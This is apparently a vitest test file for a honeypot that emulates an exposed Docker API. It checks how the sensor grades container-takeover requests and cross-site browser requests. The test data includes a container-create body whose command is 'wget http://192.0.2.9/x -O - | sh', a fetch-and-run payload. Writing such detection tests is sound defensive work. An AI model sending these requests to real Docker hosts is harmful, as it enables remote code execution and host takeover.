import { expect, it } from 'vitest';
import { createEvidence } from '../src/analysis/evidence.ts';
import { docker } from '../src/sensor/emulators/docker.ts';
import { Memory } from '../src/sensor/memory.ts';
import { meet } from '../src/sensor/play.ts';

/** The best class of evidence that requests to one Docker decoy come to; `#` is the id that the first answer held. */
async function best(texts: string[], memory = new Memory()): Promise<string> {
  const evidence = createEvidence();
  let id = '';
  let found = 'E0';
  for (const text of texts) {
    const talk = meet(docker, { memory });
    const said = (await talk.say(text.replaceAll('#', id))) + (await talk.leave());
    id ||= /"Id":"([0-9a-f]{64})"/.exec(said)?.[1] ?? '';
    for (const event of talk.events) {
      evidence.observe(event);
      const one = evidence.classOf(event);
      if (one > found) found = one;
    }
  }
  return found;
}

const post = (path: string, headers: string, body = '') =>
  `POST ${path} HTTP/1.1\r\n${headers}Content-Length: ${body.length}\r\n\r\n${body}`;
const tool = 'Host: 198.51.100.1:2375\r\nUser-Agent: Docker-Client/20.10.24 (linux)\r\n';
const page =
  'Host: 198.51.100.1:2375\r\nUser-Agent: Mozilla/5.0 (X11)\r\nAccept-Language: en\r\nOrigin: http://evil.example\r\n';
const evil = JSON.stringify({ Image: 'alpine', Cmd: ['sh', '-c', 'wget http://192.0.2.9/x -O - | sh'] });
const pull = post('/images/create?fromImage=alpine', tool);

it('who takes over a Docker host can be denied', async () => {
  const create = post('/containers/create', `${tool}Content-Type: application/json\r\n`, evil);
  expect((await best([pull, create, post('/containers/#/start', tool)])) >= 'E4').toBe(true);
});

it('no cross-site request and no web hook leads to a deny', async () => {
  const types = [
    'text/plain',
    'text/ping',
    'application/csp-report',
    'application/json',
    'application/x-www-form-urlencoded',
  ];
  for (const headers of [page, tool])
    for (const type of types) {
      const texts = [
        '/containers/create',
        '/containers/create?name=job',
        '/containers/job/start',
        '/containers/prune',
      ];
      const sent = texts.map((path) => post(path, `${headers}Content-Type: ${type}\r\n`, evil));
      // A connect to a port that browsers do connect to is E2: never a deny by itself.
      expect((await best([pull, ...sent])) <= 'E2').toBe(true);
    }
});

it('a page cannot go on where its reader works himself', async () => {
  const memory = new Memory();
  const create = post('/containers/create', `${tool}Content-Type: application/json\r\n`, evil);
  expect((await best([pull, create, post('/containers/#/start', page)], memory)) <= 'E2').toBe(true);
});
